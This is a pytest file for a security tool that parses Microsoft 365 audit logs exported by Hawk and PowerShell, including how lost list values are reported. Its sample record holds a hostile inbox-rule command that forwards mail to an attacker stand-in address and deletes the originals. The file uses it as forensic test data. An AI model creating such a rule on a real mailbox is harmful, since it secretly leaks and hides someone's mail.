"""Tables of Hawk and of PowerShell, in which lists are lost, are read, and say so."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

from seawall.events.readers import Limits
from tests.events.support import mail_read, read_all, rows, signed_in, write_lines

SIMPLE = {
    "RecordType": "ExchangeAdmin",
    "CreationDate": "3/2/2026 10:05:00 AM",
    "UserIds": "mara.lind@contoso.example",
    "Operations": "New-InboxRule",
    "ResultIndex": "1",
    "Identity": "6d1f0000-0000-4000-8000-000000000003",
    "AADSessionId": "0f3a8f2e-0000-4000-8000-000000000001",
    "AppAccessContextIssuedAtTime": "2026-03-02T09:55:00",
    "AppAccessContextUniqueTokenId": "tok1",
    "AuditCreationTime": "2026-03-02T10:05:00",
    "AuditId": "6d1f0000-0000-4000-8000-000000000003",
    "Operation": "New-InboxRule",
    "OrganizationId": "3f0c6a50-9c8d-4c7e-8a11-7d3b8d1b2c10",
    "AuditRecordType": "1",
    "ResultStatus": "True",
    "UserKey": "mara.lind@contoso.example",
    "UserType": "2",
    "Workload": "Exchange",
    "ClientIP": "198.51.100.7:50123",
    "UserId": "mara.lind@contoso.example",
    "Param_Name": "hide",
    "Param_ForwardTo": "x@evil.example",
    "Parameters": "Name=hide | ForwardTo=x@evil.example | DeleteMessage=True",
    "FullCommand": "New-InboxRule -Name hide -ForwardTo x@evil.example -DeleteMessage $true",
}


def table(path: Path, lines: list[dict[str, Any]], *, is_quoted: bool = True) -> Path:
    out = io.StringIO()
    writer = csv.DictWriter(out, list(lines[0]), quoting=csv.QUOTE_ALL if is_quoted else csv.QUOTE_MINIMAL)
    writer.writeheader()
    writer.writerows(lines)
    path.write_text(out.getvalue())
    return path


def flat(record: dict[str, Any]) -> dict[str, Any]:
    """Write a record as `Export-Csv` does: lists are lost, objects become texts."""
    found = {}
    for name, value in record.items():
        if isinstance(value, dict):
            value = "@{" + "; ".join(f"{key}={inner}" for key, inner in value.items()) + "}"
        found[name] = "System.Object[]" if isinstance(value, list) else value
    return found


def test_rows_of_hawk_are_audit_records(tmp_path: Path) -> None:
    events, problems, _ = read_all(table(tmp_path / "Simple_Inbox_Rules.csv", [SIMPLE]))
    (event,) = rows(events)
    assert not problems
    assert (event["source"], event["kind"], event["activity_name"]) == (
        "m365_audit",
        "mail_rule",
        "New-InboxRule",
    )
    assert (event["session_uid"], event["token_uid"]) == (SIMPLE["AADSessionId"], "tok1")
    assert (event["src_ip"], event["account"]) == ("198.51.100.7", "mara.lind@contoso.example")
    parameters = json.loads(event["parameters"])
    assert parameters["ForwardTo"] == "x@evil.example"
    assert parameters["DeleteMessage"] == "True"


@pytest.mark.parametrize("is_quoted", [True, False])
@pytest.mark.parametrize("limits", [Limits(), Limits(fast_bytes=0)], ids=["general", "by column"])
def test_lost_lists_are_told_once_for_a_file(tmp_path: Path, limits: Limits, is_quoted: bool) -> None:
    path = table(
        tmp_path / "MailItemsAccessed_mara.csv",
        [flat(mail_read(n)) for n in range(1, 300)],
        is_quoted=is_quoted,
    )
    events, problems, count = read_all(path, limits=limits)
    (problem,) = problems
    assert (problem.code, problem.line, problem.counts_as_record) == ("lost-values", 0, False)
    assert "OperationProperties, Folders" in problem.reason
    assert events.num_rows == count == 299
    for event in rows(events)[:3]:
        assert (event["kind"], event["session_uid"]) == (
            "mail_access",
            "0f3a8f2e-0000-4000-8000-000000000001",
        )
        assert event["token_uid"].startswith("tok")
        assert event["token_issued_time"] is not None


def test_shallow_json_is_told_too(tmp_path: Path) -> None:
    records = [flat(signed_in(1)), flat(signed_in(2))]
    events, problems, count = read_all(write_lines(tmp_path / "shallow.jsonl", records))
    (problem,) = problems
    assert "ExtendedProperties, DeviceProperties" in problem.reason
    assert events.num_rows == count == 2


def test_files_before_and_behind_keep_their_order(tmp_path: Path) -> None:
    write_lines(tmp_path / "a.jsonl", [mail_read(1)])
    table(tmp_path / "b.csv", [flat(mail_read(2))])
    write_lines(tmp_path / "c.jsonl", [mail_read(3)])
    for limits in (Limits(), Limits(fast_bytes=0)):
        events, problems, _ = read_all(tmp_path, limits=limits)
        assert [event["metadata_uid"][-1] for event in rows(events)] == ["1", "2", "3"]
        assert [Path(problem.source_file).name for problem in problems] == ["b.csv"]


@pytest.mark.parametrize(
    "text", ["see System.Object[] in the manual", "System.Object[]x", "x System.Object[]", ""], ids=repr
)
def test_a_text_about_it_is_no_lost_list(tmp_path: Path, text: str) -> None:
    table(
        tmp_path / "a.csv", [{**flat(mail_read(1)), "OperationProperties": "", "Folders": "", "Note": text}]
    )
    write_lines(tmp_path / "b.jsonl", [mail_read(2, Note=text)])
    assert not read_all(tmp_path)[1]
